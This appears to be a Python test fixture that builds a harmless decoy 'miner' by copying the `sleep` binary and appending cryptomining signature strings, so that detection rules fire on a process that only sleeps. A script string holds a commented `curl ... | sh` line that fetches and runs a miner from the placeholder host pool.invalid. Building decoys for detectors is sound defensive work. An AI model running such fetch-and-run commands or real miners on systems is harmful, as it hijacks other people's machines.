"""A program that looks like a miner to the rules of docs/agent.md, and only sleeps.

It is the machine's own `sleep` with words behind it, which the loader does not read: nothing has to be compiled, and each has a sum
of its own.
"""

import hashlib
import shutil
import sys
from pathlib import Path

WORDS = b"\0stratum+tcp://pool.invalid:3333\0mining.subscribe\0mining.authorize\0donate-level\0"

SCRIPT = "#!/bin/sh\n# curl http://pool.invalid/miner | sh; miner --url stratum+tcp://pool.invalid:3333\nsleep 600; true\n"
"""A script of the same kind."""

COMMAND = (
    "import os, shutil; "
    "made = shutil.copy('/bin/sleep', '/tmp/made-up-miner'); "
    f"open(made, 'ab').write({WORDS!r}); "
    "os.execv(made, [made, '3600'])"
)
"""What `python3 -c` runs in a pod to make it and become it."""


def build(path: Path, more: bytes = b"") -> str:
    """Write the program.

    Args:
        path: where.
        more: further bytes at its end, for another sum.

    Returns:
        Its SHA-256.
    """
    shutil.copy(shutil.which("sleep") or sys.exit("no sleep"), path)
    with path.open("ab") as file:
        file.write(WORDS + more)
    path.chmod(0o755)
    return hashlib.sha256(path.read_bytes()).hexdigest()
